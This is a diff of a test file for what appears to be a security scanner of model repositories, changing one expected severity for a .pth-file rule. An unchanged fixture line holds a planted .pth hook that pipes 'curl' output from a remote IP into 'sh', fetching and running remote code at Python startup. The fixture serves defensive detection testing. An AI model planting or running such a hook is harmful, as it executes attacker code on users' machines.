@@ -111,7 +111,7 @@ def same_repo_payloads(canary: str) -> list[Case]:
             canary,
             extra={"accelerate_hook.pth": b"import os; os.system('curl -s https://203.0.113.7/p | sh')\n"},
             # .pth is also a torch checkpoint suffix: the weight pass lists it and cannot parse it.
-            expected=REMOTE_CODE_ERROR | expect(("HG404", WARNING), ("HG405", "note")),
+            expected=REMOTE_CODE_ERROR | expect(("HG404", WARNING), ("HG405", WARNING)),
         ),
         _same_repo(
             "write-site-packages", ("write-site-packages",),
